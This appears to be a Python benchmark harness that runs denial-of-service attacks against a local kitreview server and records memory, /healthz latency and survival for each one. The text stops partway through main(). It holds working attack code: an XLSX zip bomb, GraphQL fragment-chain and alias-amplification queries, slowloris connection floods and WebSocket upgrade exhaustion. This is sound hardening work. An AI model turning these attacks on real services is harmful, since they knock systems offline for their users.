#!/usr/bin/env python3
"""Attack harness for kitreview: runs the attacks of the hardening issue against a
release binary, one fresh server per attack, and measures what they cost.

    python3 benches/attacks/run.py --binary target/release/kitreview \
        [--label NAME] [--only 1a,2,7b] [--out FILE]

Python 3.11 standard library only. Every byte goes to 127.0.0.1. See README.md
next to this file for what each attack is and how to read the table.
"""

import argparse
import base64
import http.client
import io
import json
import os
import re
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile

PASSWORD = "kitreview-demo-2026"
SECRETARIAT = "secretariat@itu.example"
RAPPORTEUR = "rapporteur@itu.example"
KENYA = "delegate.kenya@itu.example"
FRANCE = "delegate.france@itu.example"
JWT_SECRET = "attack-harness-secret-0123456789abcdefgh"  # 40 characters
assert len(JWT_SECRET) == 40

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

CLIENT_TIMEOUT = 90.0  # seconds, for the attack's own requests
HEALTH_EVERY = 0.100
HEALTH_TIMEOUT = 2.0
RSS_EVERY = 0.020

# Attack traffic comes from 127.0.0.1; the bystanders (the /healthz probe, the
# other user of attack 3, the signed-in WebSocket client of attack 8) come from
# VICTIM, another loopback address, so that per-address limits do not confuse an
# honest client with the attacker. Destination is always 127.0.0.1.
ATTACKER = "127.0.0.1"
VICTIM = "127.0.0.2"

ARGS = None


def log(*a):
    print(*a, file=sys.stderr, flush=True)


# ---------------------------------------------------------------- HTTP client


def request(port, method, path, body=b"", headers=None, timeout=CLIENT_TIMEOUT, source=ATTACKER):
    """One request on a fresh connection. The body is streamed and dropped
    (only its first and last 64 KiB are kept), so a 2 GB answer costs the
    client no memory. Returns a dict: status, bytes, seconds, error, code."""
    t0 = time.monotonic()
    out = {"status": None, "bytes": 0, "error": None, "code": None}
    head = bytearray()
    tail = bytearray()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout, source_address=(source, 0))
    try:
        h = {"Content-Length": str(len(body))} if method == "POST" else {}
        h.update(headers or {})
        conn.request(method, path, body=body if method == "POST" else None, headers=h)
        resp = conn.getresponse()
        out["status"] = resp.status
        deadline = t0 + timeout
        while True:
            if time.monotonic() > deadline:
                raise TimeoutError("client timeout while reading the body")
            chunk = resp.read(1 << 16)
            if not chunk:
                break
            out["bytes"] += len(chunk)
            if len(head) < (1 << 16):
                head += chunk[: (1 << 16) - len(head)]
            tail += chunk
            if len(tail) > (1 << 17):
                del tail[: len(tail) - (1 << 16)]
    except (socket.timeout, TimeoutError) as e:
        out["error"] = "timeout"
        out["detail"] = str(e)
    except (ConnectionError, http.client.HTTPException, OSError) as e:
        out["error"] = type(e).__name__
        out["detail"] = str(e)
    finally:
        conn.close()
    out["seconds"] = time.monotonic() - t0
    text = bytes(head) if out["bytes"] <= len(head) else bytes(head) + b"..." + bytes(tail[-(1 << 16):])
    out["code"] = first_error_code(text, out["bytes"] <= len(head))
    out["excerpt"] = bytes(head[:300]).decode("utf-8", "replace")
    return out


def first_error_code(text, whole):
    if whole:
        try:
            v = json.loads(text)
            errs = v.get("errors") if isinstance(v, dict) else None
            if errs:
                return (errs[0].get("extensions") or {}).get("code") or "ERROR"
            return None
        except (ValueError, AttributeError):
            pass
    m = re.search(rb'"errors"\s*:\s*\[.*?"code"\s*:\s*"([A-Za-z_]+)"', text, re.S)
    if m:
        return m.group(1).decode()
    return "ERROR" if b'"errors"' in text else None


def gql_request(port, query, variables=None, token=None, timeout=CLIENT_TIMEOUT, source=ATTACKER):
    body = json.dumps({"query": query, "variables": variables or {}}).encode()
    h = {"Content-Type": "application/json", "Accept": "application/graphql-response+json, application/json"}
    if token:
        h["Authorization"] = "Bearer " + token
    return request(port, "POST", "/graphql", body, h, timeout, source)


def gql(port, query, variables=None, token=None, timeout=300.0):
    """A setup call: returns `data`, raises on errors."""
    body = json.dumps({"query": query, "variables": variables or {}}).encode()
    h = {"Content-Type": "application/json", "Accept": "application/json", "Content-Length": str(len(body))}
    if token:
        h["Authorization"] = "Bearer " + token
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request("POST", "/graphql", body=body, headers=h)
        resp = conn.getresponse()
        raw = resp.read()
    finally:
        conn.close()
    v = json.loads(raw)
    if v.get("errors"):
        raise RuntimeError(f"setup query failed: {json.dumps(v['errors'])[:500]}")
    return v["data"]


def login(port, email):
    d = gql(port, "mutation($e:String!,$p:String!){ login(input:{email:$e,password:$p}) { token } }",
            {"e": email, "p": PASSWORD})
    return d["login"]["token"]


def summarize(res):
    """'200 ok 1.2 MB' / '422 VALIDATION' / 'timeout' for one request result."""
    if res.get("error") and res.get("status") is None:
        return res["error"]
    s = str(res["status"])
    if res.get("code"):
        s += " " + res["code"]
    elif res.get("status") and 200 <= res["status"] < 300:
        s += " ok"
    if res.get("error"):
        s += " (" + res["error"] + " mid-body)"
    if res["bytes"] >= 1 << 20:
        s += f", {res['bytes'] / (1 << 20):.0f} MiB"
    return s


# ---------------------------------------------------------------- server


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


class Server:
    def __init__(self, binary):
        self.binary = binary
        self.dir = tempfile.mkdtemp(prefix="kitreview-attack-")
        self.port = free_port()
        env = dict(os.environ)
        env["KITREVIEW_JWT_SECRET"] = JWT_SECRET
        env.setdefault("KITREVIEW_LOG", "warn")
        self.logf = open(os.path.join(self.dir, "server.log"), "wb")
        self.proc = subprocess.Popen(
            [binary, "serve", "--demo", "--listen", f"127.0.0.1:{self.port}",
             "--database-url", f"sqlite:{self.dir}/k.db"],
            env=env, stdout=self.logf, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
        self.pid = self.proc.pid
        self.killed_at_cap = False
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"server exited at start-up; log in {self.dir}/server.log")
            r = request(self.port, "GET", "/healthz", timeout=1.0)
            if r["status"] == 200:
                return
            time.sleep(0.05)
        raise RuntimeError("server did not answer /healthz within 60 s")

    def alive(self):
        return self.proc.poll() is None

    def status_kib(self, key):
        try:
            with open(f"/proc/{self.pid}/status") as f:
                for line in f:
                    if line.startswith(key + ":"):
                        return int(line.split()[1])
        except OSError:
            return None
        return None

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.logf.close()
        if not ARGS.keep:
            shutil.rmtree(self.dir, ignore_errors=True)


# ---------------------------------------------------------------- monitors


class Monitor:
    """While an attack runs: VmRSS every 20 ms (and a safety cap that kills the
    server on a shared machine), /healthz every 100 ms from VICTIM."""

    def __init__(self, srv):
        self.srv = srv
        self.stop_ev = threading.Event()
        self.peak_rss = 0
        self.health = []  # (t, seconds or None)
        self.t0 = None
        self.t1 = None

    def _rss(self):
        cap = ARGS.rss_cap_mib * 1024
        while not self.stop_ev.is_set():
            v = self.srv.status_kib("VmRSS")
            if v is not None:
                self.peak_rss = max(self.peak_rss, v)
                if v > cap and self.srv.alive():
                    log(f"  !! RSS {v // 1024} MiB over the harness cap: killing the server")
                    self.srv.killed_at_cap = True
                    self.srv.proc.kill()
            self.stop_ev.wait(RSS_EVERY)

    def _health(self):
        while not self.stop_ev.is_set():
            t = time.monotonic()
            r = request(self.srv.port, "GET", "/healthz", timeout=HEALTH_TIMEOUT, source=VICTIM)
            ok = r["status"] == 200 and r["seconds"] < HEALTH_TIMEOUT
            self.health.append((t - self.t0, r["seconds"] if ok else None))
            rest = HEALTH_EVERY - (time.monotonic() - t)
            if rest > 0:
                self.stop_ev.wait(rest)

    def __enter__(self):
        self.idle_rss = self.srv.status_kib("VmRSS")
        self.t0 = time.monotonic()
        self.threads = [threading.Thread(target=self._rss, daemon=True),
                        threading.Thread(target=self._health, daemon=True)]
        for t in self.threads:
            t.start()
        return self

    def __exit__(self, *exc):
        self.t1 = time.monotonic()
        self.stop_ev.set()
        for t in self.threads:
            t.join(5)
        return False

    def report(self):
        lat = [s for _, s in self.health if s is not None]
        none = sum(1 for _, s in self.health if s is None)
        return {
            "idle_rss_kib": self.idle_rss,
            "peak_rss_kib": self.peak_rss,
            "vmhwm_kib": self.srv.status_kib("VmHWM"),
            "healthz_probes": len(self.health),
            "healthz_no_answer": none,
            "healthz_worst_ms": None if not lat else round(max(lat) * 1000, 1),
            "healthz_p50_ms": None if not lat else round(sorted(lat)[len(lat) // 2] * 1000, 1),
            "healthz_over_100ms": sum(1 for s in lat if s > 0.1),
        }


def concurrently(fns):
    """Run the callables at once; their results in order."""
    out = [None] * len(fns)

    def run(i, f):
        out[i] = f()

    ts = [threading.Thread(target=run, args=(i, f), daemon=True) for i, f in enumerate(fns)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return out


class Repeater:
    """Call `fn` every `every` seconds in a thread until stopped; keep results."""

    def __init__(self, fn, every):
        self.fn, self.every = fn, every
        self.results = []
        self.ev = threading.Event()
        self.t = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self.ev.is_set():
            t = time.monotonic()
            self.results.append(self.fn())
            rest = self.every - (time.monotonic() - t)
            if rest > 0:
                self.ev.wait(rest)

    def __enter__(self):
        self.t.start()
        return self

    def __exit__(self, *exc):
        self.ev.set()
        self.t.join(CLIENT_TIMEOUT + 5)
        return False


# ---------------------------------------------------------------- workbooks


def zip_of(entries, level=6):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, body in entries:
            z.writestr(name, body)
    return buf.getvalue()


def workbook_entries(sheet_data):
    return [
        ("[Content_Types].xml",
         '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="xml" ContentType="application/xml"/></Types>'),
        ("xl/workbook.xml",
         f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" '
         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
         '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels",
         '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
         'Target="worksheets/sheet1.xml"/></Relationships>'),
        ("xl/worksheets/sheet1.xml",
         f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>{sheet_data}</sheetData></worksheet>'),
    ]


def inline(r, text):
    return f'<c r="{r}" t="inlineStr"><is><t>{text}</t></is></c>'


def heading_and_comment():
    return (f'<row r="1">{inline("A1", "Clause")}{inline("B1", "Type of comment")}{inline("C1", "Comment")}</row>'
            f'<row r="2">{inline("A2", "General")}{inline("B2", "ge")}{inline("C2", "From a hand-made workbook.")}</row>')


def xlsx_huge_unique_count():
    shared = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="100000000000" '
              'uniqueCount="100000000000"><si><t>Clause</t></si></sst>')
    return zip_of(workbook_entries('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
                  + [("xl/sharedStrings.xml", shared)])


def xlsx_corners():
    return zip_of(workbook_entries(f'<row r="1">{inline("A1", "Clause")}</row>'
                                   f'<row r="1048576">{inline("XFD1048576", "x")}</row>'))


def xlsx_shared_string_bomb(expanded=900 << 20):
    """~1 MB of deflate whose sharedStrings.xml expands to `expanded` bytes of
    identical <si><t>aaaa...</t></si> items. Written in a stream (never whole
    in memory)."""
    item = b"<si><t>" + b"a" * 1000 + b"</t></si>"
    n = expanded // len(item)
    head = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="{n}" uniqueCount="{n}">').encode()
    tail = b"</sst>"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, body in workbook_entries(heading_and_comment()):
            z.writestr(name, body)
        zi = zipfile.ZipInfo("xl/sharedStrings.xml", date_time=(2026, 1, 1, 0, 0, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        zi.file_size = len(head) + n * len(item) + len(tail)
        with z.open(zi, "w") as w:
            w.write(head)
            block = item * 4096
            left = n
            while left:
                k = min(left, 4096)
                w.write(block if k == 4096 else item * k)
                left -= k
            w.write(tail)
    return buf.getvalue(), len(head) + n * len(item) + len(tail)


# ---------------------------------------------------------------- markdown


WORDS = ("readiness assessment infrastructure policy governance reach mobile access "
         "broadband e-government services citizens agencies interoperability data "
         "platform identity digital inclusion environment monitoring climate index "
         "indicator measure capacity training framework strategy national regional").split()


def paragraph(i, variant=0, words=34):
    """A unique paragraph; `variant` changes a few of its words."""
    ws = [WORDS[(i * 7 + k * 3) % len(WORDS)] for k in range(words)]
    ws[0] = f"Paragraph{i}"
    if variant:
        for k in (5, 13, 21, 29):
            ws[k] = f"revised{variant}x{i}"
    return " ".join(ws) + "."


def big_markdown(target, variant_every=0, variant=0):
    """Markdown of just under `target` bytes: a heading every 40 paragraphs.
    With `variant_every`, every paragraph whose index % variant_every != 0 is changed."""
    parts = ["# Attack module\n\n"]
    size = len(parts[0])
    i = 0
    while True:
        if i % 40 == 0:
            h = f"## {i // 40 + 1}. Section {i // 40 + 1}\n\n"
            parts.append(h)
            size += len(h)
        v = variant if (variant_every and i % variant_every != 0) else 0
        p = paragraph(i, v) + "\n\n"
        if size + len(p) > target:
            break
        parts.append(p)
        size += len(p)
        i += 1
    return "".join(parts)


MD_TARGET = 2 * 1024 * 1024 - 8 * 1024  # just under the 2 MiB createRevision limit


def make_module(port, token, title):
    q = gql(port, '{ question(code: "17-2/2") { id } }', token=token)["question"]["id"]
    kit = gql(port, "mutation($q:ID!,$t:String!){ createKit(input:{questionId:$q,title:$t}) { kit { id } } }",
              {"q": q, "t": title}, token)["createKit"]["kit"]["id"]
    mod = gql(port, "mutation($k:ID!,$t:String!){ createModule(input:{kitId:$k,number:1,title:$t}) { module { id } } }",
              {"k": kit, "t": title}, token)["createModule"]["module"]["id"]
    return mod


def create_revision(port, token, module, markdown, base=None):
    d = gql(port, "mutation($m:ID!,$b:ID,$md:String!){ createRevision(input:{moduleId:$m,baseRevisionId:$b,"
                  "markdown:$md,summary:\"attack\"}) { revision { id number blockCount } } }",
            {"m": module, "b": base, "md": markdown}, token)
    return d["createRevision"]["revision"]


def open_cycle_id(port, token):
    d = gql(port, '{ question(code: "17-2/2") { kits { modules { activeCycle { id status } } } } }', token=token)
    for kit in d["question"]["kits"]:
        for m in kit["modules"]:
            c = m.get("activeCycle")
            if c and c["status"] == "OPEN":
                return c["id"]
    raise RuntimeError("no open cycle in the demo data")


# ---------------------------------------------------------------- WebSocket


def ws_open(port, source, timeout=5.0):
    """Open a graphql-transport-ws upgrade. Returns (socket or None, status)."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0))
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall((f"GET /graphql HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
               f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
               "Sec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n").encode())
    buf = b""
    while b"\r\n\r\n" not in buf:
        chunk = s.recv(4096)
        if not chunk:
            s.close()
            return None, "closed" if not buf else buf.split(b" ", 2)[1].decode()
        buf += chunk
    status = int(buf.split(b" ", 2)[1])
    if status != 101:
        s.close()
        return None, status
    return WS(s, buf.split(b"\r\n\r\n", 1)[1]), 101


class WS:
    """A client WebSocket: the socket and the bytes read past the handshake."""

    def __init__(self, sock, pending):
        self.sock, self.pending = sock, pending

    def close(self):
        self.sock.close()


def ws_send_text(s, text):
    data = text.encode()
    mask = os.urandom(4)
    n = len(data)
    if n < 126:
        hdr = struct.pack("!BB", 0x81, 0x80 | n)
    elif n < 65536:
        hdr = struct.pack("!BBH", 0x81, 0x80 | 126, n)
    else:
        hdr = struct.pack("!BBQ", 0x81, 0x80 | 127, n)
    s.sock.sendall(hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))


def ws_recv(s, n):
    buf = s.pending
    while len(buf) < n:
        chunk = s.sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    s.pending = buf[n:]
    return buf[:n]


def ws_recv_frame(s):
    b0, b1 = ws_recv(s, 2)
    n = b1 & 0x7F
    if n == 126:
        n = struct.unpack("!H", ws_recv(s, 2))[0]
    elif n == 127:
        n = struct.unpack("!Q", ws_recv(s, 8))[0]
    if b1 & 0x80:
        ws_recv(s, 4)
    return b0 & 0x0F, ws_recv(s, n)


def ws_signed_in_try(port, token, source):
    """Connect, send connection_init with the token, wait 2 s for connection_ack."""
    t0 = time.monotonic()
    try:
        s, status = ws_open(port, source, timeout=2.0)
        if s is None:
            return {"outcome": str(status), "seconds": time.monotonic() - t0}
        try:
            s.sock.settimeout(2.0)
            ws_send_text(s, json.dumps({"type": "connection_init", "payload": {"authorization": "Bearer " + token}}))
            while True:
                op, payload = ws_recv_frame(s)
                if op == 8:
                    code = struct.unpack("!H", payload[:2])[0] if len(payload) >= 2 else None
                    return {"outcome": f"closed {code}", "seconds": time.monotonic() - t0}
                if op == 1 and json.loads(payload).get("type") == "connection_ack":
                    return {"outcome": "101+ack", "seconds": time.monotonic() - t0}
        finally:
            s.close()
    except (socket.timeout, TimeoutError):
        return {"outcome": "timeout", "seconds": time.monotonic() - t0}
    except (OSError, ConnectionError, ValueError) as e:
        return {"outcome": type(e).__name__, "seconds": time.monotonic() - t0}


# ---------------------------------------------------------------- attacks
# Each attack: setup(srv) -> state (not measured), then run(srv, state) inside
# the Monitor -> {"answer": str, "requests": [...], ...}.


def setup_import(srv):
    kenya = login(srv.port, KENYA)
    return {"token": kenya, "cycle": open_cycle_id(srv.port, kenya)}


def run_upload(data):
    def run(srv, st):
        r = request(srv.port, "POST", f"/imports/cycles/{st['cycle']}/comments", data,
                    {"Authorization": "Bearer " + st["token"], "Content-Type": XLSX})
        return {"answer": summarize(r), "requests": [r], "upload_bytes": len(data)}
    return run


_bomb = {}


def setup_bomb(srv):
    if "data" not in _bomb:
        log("  building the zip bomb ...")
        _bomb["data"], _bomb["expanded"] = xlsx_shared_string_bomb(ARGS.bomb_mib << 20)
        log(f"  {len(_bomb['data'])} bytes, sharedStrings.xml expands to {_bomb['expanded']} bytes")
    st = setup_import(srv)
    st["data"] = _bomb["data"]
    return st


def run_bomb(srv, st):
    res = run_upload(st["data"])(srv, st)
    res["expanded_bytes"] = _bomb["expanded"]
    return res


def fragment_chain(k=25):
    parts = [f"query {{ ...F{k - 1} }}", "fragment F0 on Query { __typename }"]
    for i in range(1, k):
        parts.append(f"fragment F{i} on Query {{ ...F{i - 1} ...F{i - 1} }}")
    return "\n".join(parts)


def run_fragments(srv, st):
    q = fragment_chain(25)
    rs = concurrently([lambda: gql_request(srv.port, q)] * 2)
    return {"answer": " / ".join(summarize(r) for r in rs), "requests": rs}


def setup_nodes(srv):
    sec = login(srv.port, SECRETARIAT)
    france = login(srv.port, FRANCE)
    audit = "{ auditLog(first: 100) { nodes { id } } }"
    ids = [n["id"] for n in gql(srv.port, audit, token=sec)["auditLog"]["nodes"]]
    if len(ids) < 100:  # the demo has fewer: make events until there are 100
        q = gql(srv.port, '{ question(code: "17-2/2") { id } }', token=sec)["question"]["id"]
        for i in range(100 - len(ids)):
            gql(srv.port, "mutation($q:ID!,$t:String!){ createKit(input:{questionId:$q,title:$t}) { kit { id } } }",
                {"q": q, "t": f"Audit filler {i}"}, sec)
        ids = [n["id"] for n in gql(srv.port, audit, token=sec)["auditLog"]["nodes"]]
    distinct = len(ids)
    while len(ids) < 100:
        ids.append(ids[len(ids) % distinct])
    return {"token": sec, "other": france, "ids": ids[:100], "distinct": distinct}


def run_nodes(srv, st):
    # `{ id }` only: 10,000 x (1 + 1) is exactly the old complexity limit of 20,000
    q = "query($ids:[ID!]!){ " + " ".join(f"a{i}: nodes(ids: $ids) {{ id }}" for i in range(10000)) + " }"
    other = Repeater(lambda: gql_request(srv.port, "{ viewer { id } }", token=st["other"], timeout=CLIENT_TIMEOUT,
                                         source=VICTIM), 0.2)
    with other:
        r = gql_request(srv.port, q, {"ids": st["ids"]}, st["token"])
    lat = [x["seconds"] for x in other.results if x["status"] == 200 and not x["code"]]
    return {"answer": summarize(r), "requests": [r], "distinct_audit_ids": st["distinct"],
            "query_bytes": len(q),
            "other_user": {"tries": len(other.results), "ok": len(lat),
                           "worst_ms": round(max(lat) * 1000, 1) if lat else None,
                           "failures": [f"{summarize(x)} after {x['seconds']:.1f} s" for x in other.results
                                        if x["status"] != 200 or x["code"]][:5]}}


def setup_markdown(srv):
    sec = login(srv.port, SECRETARIAT)
    mod = make_module(srv.port, sec, "Attack 4a")
    md = big_markdown(MD_TARGET)
    rev = create_revision(srv.port, sec, mod, md)
    return {"token": sec, "rev": rev["id"], "md_bytes": len(md)}


def run_markdown(srv, st):
    q = "query($r:ID!){ node(id: $r) { ... on Revision { " + " ".join(
        f"m{i}: markdown" for i in range(900)) + " } } }"
    r = gql_request(srv.port, q, {"r": st["rev"]}, st["token"])
    return {"answer": summarize(r), "requests": [r], "markdown_bytes": st["md_bytes"]}


def run_schema(srv, st):
    q = "{ " + " ".join(f"s{i}: __schema {{ types {{ name fields {{ name }} }} }}" for i in range(2000)) + " }"
    rs = concurrently([lambda: gql_request(srv.port, q)] * 3)
    return {"answer": " / ".join(summarize(r) for r in rs), "requests": rs}


def setup_diff(srv):
    sec = login(srv.port, SECRETARIAT)
    kenya = login(srv.port, KENYA)
    mod = make_module(srv.port, sec, "Attack 5")
    md1 = big_markdown(MD_TARGET)
    r1 = create_revision(srv.port, sec, mod, md1)
    md2 = big_markdown(MD_TARGET, variant_every=10, variant=2)  # 9 paragraphs in 10 changed
    r2 = create_revision(srv.port, sec, mod, md2, base=r1["id"])
    return {"token": kenya, "module": mod, "bytes": [len(md1), len(md2)],
            "blocks": [r1["blockCount"], r2["blockCount"]]}


def run_diff(srv, st):
    q = "query($m:ID!){ node(id: $m) { ... on Module { " + " ".join(
        f"d{i}: diff(fromRevision: 1, toRevision: 2) {{ summary {{ blocksChanged }} }}"  # 380 x 52 fits 20,000
        for i in range(380)) + " } } }"
    r = gql_request(srv.port, q, {"m": st["module"]}, st["token"])
    out = {"answer": summarize(r), "requests": [r], "revision_bytes": st["bytes"], "blocks": st["blocks"]}
    m = re.search(r'"blocksChanged"\s*:\s*(\d+)', r.get("excerpt", ""))
    if m:
        out["blocks_changed"] = int(m.group(1))
    return out


def run_typenames(srv, st):
    q = "{ " + "__typename " * 350000 + "}"
    r = gql_request(srv.port, q)
    return {"answer": summarize(r), "requests": [r], "document_bytes": len(q)}


def run_slowloris(n, hold=20.0):
    def run(srv, st):
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        if soft < n + 512:
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 4096), hard))
        socks, opened_at, refused = [], [], 0
        t0 = time.monotonic()
        for _ in range(n):
            try:
                s = socket.create_connection(("127.0.0.1", srv.port), timeout=2.0, source_address=(ATTACKER, 0))
                s.sendall(b"GET /heal")  # half a request line, then nothing
                s.setblocking(False)
                socks.append(s)
                opened_at.append(time.monotonic() - t0)
            except OSError:
                refused += 1
        opened = time.monotonic() - t0
        closed_at = {}
        same_addr = None
        while time.monotonic() - t0 < hold:
            for i, s in enumerate(socks):
                if i in closed_at:
                    continue
                try:
                    if s.recv(4096) == b"":
                        closed_at[i] = time.monotonic() - t0
                except BlockingIOError:
                    pass
                except OSError:
                    closed_at[i] = time.monotonic() - t0
            if same_addr is None and time.monotonic() - t0 > 5:
                # an honest client that shares the attacker's address (a NAT)
                same_addr = request(srv.port, "GET", "/healthz", timeout=HEALTH_TIMEOUT, source=ATTACKER)
            time.sleep(0.05)
        held = len(socks) - len(closed_at)
        for s in socks:
            s.close()
        times = sorted(closed_at.values())
        # "at once": closed within 1 s of its own connect (refused by a connection cap)
        early = sum(1 for i, t in closed_at.items() if t - opened_at[i] < 1.0)
        ans = f"{held}/{n} still open at {hold:.0f} s"
        if times:
            ans += f"; server closed {early} at once, {len(times) - early} later"
            later = [t for i, t in closed_at.items() if t - opened_at[i] >= 1.0]
            if later:
                ans += f" (at {min(later):.1f} to {max(later):.1f} s)"
        return {"answer": ans, "connections": n, "connect_failures": refused, "open_seconds": round(opened, 2),
                "closed_by_server": len(times), "closed_within_1s": early,
                "close_times_s": [round(t, 2) for t in times[:: max(1, len(times) // 20)]],
                "same_address_healthz": summarize(same_addr) if same_addr else None,
                "same_address_healthz_ms": round(same_addr["seconds"] * 1000, 1) if same_addr else None}
    return run


def setup_ws(srv):
    return {"token": login(srv.port, KENYA)}


def run_ws(victim_source):
    def run(srv, st):
        statuses = {}
        ev = threading.Event()

        def attacker():
            rounds = 0
            while not ev.is_set():
                t = time.monotonic()
                held = []
                for _ in range(100):
                    try:
                        s, status = ws_open(srv.port, ATTACKER, timeout=2.0)
                    except OSError as e:
                        s, status = None, type(e).__name__
                    statuses[str(status)] = statuses.get(str(status), 0) + 1
                    if s:
                        held.append(s)
                rounds += 1
                ev.wait(max(0, 3.0 - (time.monotonic() - t)))
                for s in held:
                    s.close()
            statuses["rounds"] = rounds

        a = threading.Thread(target=attacker, daemon=True)
        a.start()
        time.sleep(0.5)
        tries = []
        t0 = time.monotonic()
        while time.monotonic() - t0 < 14.5:
            t = time.monotonic()
            tries.append(ws_signed_in_try(srv.port, st["token"], victim_source))
            time.sleep(max(0, 1.0 - (time.monotonic() - t)))
        ev.set()
        a.join(10)
        out = {}
        for x in tries:
            out[x["outcome"]] = out.get(x["outcome"], 0) + 1
        ok = out.get("101+ack", 0)
        return {"answer": f"signed-in client: {ok}/{len(tries)} 101+ack, {out.get('503', 0)} x 503; "
                          f"attacker upgrades: {statuses.get('101', 0)} x 101, {statuses.get('503', 0)} x 503",
                "victim_outcomes": out, "victim_source": victim_source, "attacker_statuses": statuses,
                "victim_worst_ms": round(max(x["seconds"] for x in tries) * 1000, 1) if tries else None}
    return run


def no_setup(srv):
    return {}


ATTACKS = [
    ("1a", "XLSX uniqueCount=1e11 (2 KB)", setup_import, lambda: run_upload(xlsx_huge_unique_count())),
    ("1b", "XLSX cells A1 + XFD1048576", setup_import, lambda: run_upload(xlsx_corners())),
    ("1c", "XLSX shared-string zip bomb", setup_bomb, lambda: run_bomb),
    ("2", "fragment chain K=25, x2", no_setup, lambda: run_fragments),
    ("3", "nodes(100 ids) x 10,000 aliases", setup_nodes, lambda: run_nodes),
    ("4a", "900 x 2 MiB markdown", setup_markdown, lambda: run_markdown),
    ("4b", "3 x 2,000 __schema aliases", no_setup, lambda: run_schema),
    ("5", "diff of 2 MiB revisions x 380", setup_diff, lambda: run_diff),
    ("6", "350,000 __typename (3.85 MB)", no_setup, lambda: run_typenames),
    ("7a", "slowloris 300 conns, 20 s", no_setup, lambda: run_slowloris(300)),
    ("7b", "slowloris 1,100 conns, 20 s", no_setup, lambda: run_slowloris(1100)),
    ("8", "100 pending WebSockets, 15 s", setup_ws, lambda: run_ws(VICTIM)),
    ("8s", "as 8, victim on attacker's address", setup_ws, lambda: run_ws(ATTACKER)),
]


def mib(kib):
    return "-" if kib is None else f"{kib / 1024:.0f} MiB"


def row(r):
    if r.get("harness_error"):
        return f"| {r['id']} | {r['name']} | - | - | - | - | harness error: {r['harness_error']} |"
    h = r["monitor"]
    worst = "-" if h["healthz_worst_ms"] is None else f"{h['healthz_worst_ms']:.0f} ms"
    if h["healthz_no_answer"]:
        worst += f" ({h['healthz_no_answer']}/{h['healthz_probes']} no answer)"
    peak = h["peak_rss_kib"] or None
    alive = "yes" if r["alive"] else ("killed at RSS cap" if r["killed_at_cap"] else "NO (exited)")
    w = r["wall_seconds"]
    wall = f"{w * 1000:.0f} ms" if w < 1 else f"{w:.2f} s"
    return (f"| {r['id']} | {r['name']} | {wall} | {mib(h['idle_rss_kib'])} → {mib(peak)} | {worst} | {alive} | "
            f"{r['result']['answer']} |")


def main():
    global ARGS
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--binary", required=True)
    p.add_argument("--label", default="")
    p.add_argument("--only", default="", help="comma-separated attack ids, e.g. 1a,2,7b")
    p.add_argument("--out", default="", help="write the JSON results here")
    p.add_argument("--rss-cap-mib", type=int, default=8192,
                   help="kill the server if its RSS passes this (the machine is shared); default 8192")
    p.add_argument("--bomb-mib", type=int, default=360, help="expanded size of the 1c sharedStrings.xml")
    p.add_argument("--keep", action="store_true", help="keep each server's temporary directory and log")
    ARGS = p.parse_args()
    binary = os.path.abspath(ARGS.binary)
    only = {x.strip() for x in ARGS.only.split(",") if x.strip()}
    unknown = only - {a[0] for a in ATTACKS}
    if unknown:
        p.error(f"unknown attack ids: {', '.join(sorted(unknown))}")
    results = []
    print(f"\nkitreview attacks{(' — ' + ARGS.label) if ARGS.label else ''}: {binary}\n")
    print("| attack | what | wall time | RSS idle → peak | worst /healthz | alive | answer |")
    print("|---|---|---|---|---|---|---|", flush=True)
    for aid, name, setup, make in ATTACKS:
        if only and aid not in only:
            continue
        log(f"[{aid}] {name}")
        rec = {"id": aid, "name": name}
        srv = None
        try:
            srv = Server(binary)
            st = setup(srv)
            run = make()
            with Monitor(srv) as m:
                res = run(srv, st)
            reqs = res.get("requests") or []
